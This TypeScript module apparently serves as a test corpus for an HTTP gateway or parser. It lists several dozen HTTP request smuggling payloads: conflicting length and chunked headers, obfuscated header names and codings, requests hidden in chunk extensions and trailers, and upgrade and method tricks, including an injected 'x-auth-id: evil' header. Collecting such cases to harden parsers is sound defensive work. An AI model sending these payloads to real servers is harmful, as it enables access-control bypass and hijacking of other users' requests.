/** A request that hides another one, as bytes. */
export interface Attack {
  readonly name: string
  readonly bytes: string
  /** How many requests it really is, when it may be taken; default 1. */
  readonly requests?: number
}

const hidden = 'GET /smuggled HTTP/1.1\r\nhost: a.test\r\n\r\n'
const post = (lines: string, body: string): string => `POST /x HTTP/1.1\r\nhost: a.test\r\n${lines}\r\n\r\n${body}`
const both = `content-length: ${5 + hidden.length}\r\ntransfer-encoding: chunked`
const cl0 = 'content-length: 0'

/** What says its end in two ways: a reader of one way sees a request in what is a body for the other. */
const twoWays: readonly Attack[] = [
  { name: 'length over chunks', bytes: post(both, `0\r\n\r\n${hidden}`) },
  {
    name: 'chunks over length',
    bytes: post(`transfer-encoding: chunked\r\ncontent-length: 4`, `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`),
  },
  { name: 'two lengths, the first short', bytes: post(`${cl0}\r\ncontent-length: ${hidden.length}`, hidden) },
  { name: 'two lengths, the last short', bytes: post(`content-length: ${hidden.length}\r\n${cl0}`, hidden) },
  { name: 'a list of lengths', bytes: post(`content-length: 0, ${hidden.length}`, hidden) },
  ...[
    'xchunked',
    'chunked, identity',
    'identity, chunked',
    '\x0bchunked',
    'chunked\x00',
    '"chunked"',
    'chunked;a',
    'x\r\n chunked',
    '\r\n chunked',
    ',chunked',
  ].map((coding): Attack => ({
    name: `coding ${JSON.stringify(coding)} beside a length`,
    bytes: post(`${cl0}\r\ntransfer-encoding: ${coding}`, `0\r\n\r\n${hidden}`),
  })),
  ...[
    'transfer-encoding :',
    ' transfer-encoding:',
    'transfer-encoding\t:',
    'transfer-encoding\x00:',
    'transfer_encoding:',
    'transfer-encoding\x0b:',
    'x: y\rtransfer-encoding:',
  ].map((name): Attack => ({
    name: `${JSON.stringify(name)} beside a length`,
    bytes: post(`content-length: ${5 + hidden.length}\r\n${name} chunked`, `0\r\n\r\n${hidden}`),
  })),
  {
    name: 'coding behind a bare line feed, beside a length',
    bytes: post(`content-length: ${5 + hidden.length}\r\nx: y\ntransfer-encoding: chunked`, `0\r\n\r\n${hidden}`),
  },
  { name: 'length with an underscore', bytes: post(`content_length: ${hidden.length}\r\n${cl0}`, hidden) },
  { name: 'folded length', bytes: post(`content-length:\r\n ${hidden.length}`, hidden) },
]

const chunked = (name: string, body: string, requests = 1): Attack => ({
  name: `in chunks, ${name}`,
  bytes: post('transfer-encoding: chunked', body),
  requests,
})

/** What hides a request in the marks between chunks. Two requests: the gateway may take the body as ended, and then it is the client itself who asks for the second. */
const inChunks: readonly Attack[] = [
  chunked('after the data', `1\r\nZXX\r\n0\r\n\r\n${hidden}`),
  chunked('in an extension behind a line feed', `1;x\n${hidden}\r\nZ\r\n0\r\n\r\n`),
  chunked('in an extension behind a carriage return', `1;x\r${hidden}Z\r\n0\r\n\r\n`),
  chunked('in a quoted extension', `1;x="\r\nZ\r\n0\r\n\r\n${hidden}"\r\n`, 2),
  chunked('behind a last chunk with a bare line feed', `0\n\r\n${hidden}`, 2),
  chunked('behind a last chunk that ends half', `0\r\n\n${hidden}`, 2),
  chunked('behind a negative size', `-1\r\n${hidden}0\r\n\r\n`),
  chunked('behind a size that overflows', `10000000000000001\r\nZ\r\n0\r\n\r\n${hidden}`),
  chunked('behind 0x', `0x0\r\n\r\n${hidden}`),
  chunked('in trailers', '0\r\nx: y\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\nhost: b.test\r\nx-auth-id: evil\r\n\r\n'),
  chunked('in trailers behind a bare carriage return', `0\r\nx: y\r\r${hidden}\r\n`),
]

/** Heads that are read in two ways. */
const heads: readonly Attack[] = [
  { name: 'a carriage return in a value', bytes: `GET /x HTTP/1.1\r\nhost: a.test\r\nx: y\r\r${hidden}` },
  { name: 'a zero byte before a second request', bytes: `GET /x HTTP/1.1\r\nhost: a.test\r\nx: y\0\r\n\r\n${hidden}`, requests: 2 },
  { name: 'a request in the path', bytes: `GET /x HTTP/1.1\nhost: a.test\n\n${hidden}`, requests: 2 },
  { name: 'a space in the path', bytes: `GET /x HTTP/1.1 HTTP/1.1\r\nhost: a.test\r\n\r\n` },
  { name: 'a tab for a space', bytes: `GET\t/x\tHTTP/1.1\r\nhost: a.test\r\n\r\n` },
  { name: 'a body that GET does not announce', bytes: `GET /x HTTP/1.1\r\nhost: a.test\r\n\r\n${hidden}`, requests: 2 },
  { name: 'HTTP/0.9', bytes: `GET /x\r\n${hidden}`, requests: 2 },
  { name: 'HTTP/1.0 with chunks', bytes: `POST /x HTTP/1.0\r\nhost: a.test\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${hidden}` },
  {
    name: 'an upgrade to h2c',
    bytes: `GET /x HTTP/1.1\r\nhost: a.test\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n`,
  },
  {
    name: 'a WebSocket that is refused, and a request behind it',
    bytes: `GET /x HTTP/1.1\r\nhost: a.test\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n${hidden}`,
    requests: 2,
  },
  { name: 'a length that the connection header names', bytes: post(`connection: content-length\r\ncontent-length: ${hidden.length}`, hidden) },
  {
    name: 'a coding that the connection header names',
    bytes: post('connection: transfer-encoding\r\ntransfer-encoding: chunked', `0\r\n\r\n${hidden}`),
    requests: 2,
  },
  { name: 'an expectation, and a body that looks like a request', bytes: post(`expect: 100-continue\r\ncontent-length: ${hidden.length}`, hidden) },
  { name: 'a body for HEAD', bytes: `HEAD /x HTTP/1.1\r\nhost: a.test\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}` },
  { name: 'a body for OPTIONS', bytes: `OPTIONS /x HTTP/1.1\r\nhost: a.test\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}` },
  { name: 'an absolute target for another host', bytes: `GET http://b.test/x HTTP/1.1\r\nhost: a.test\r\n\r\n` },
]

export const attacks: readonly Attack[] = [...twoWays, ...inChunks, ...heads]
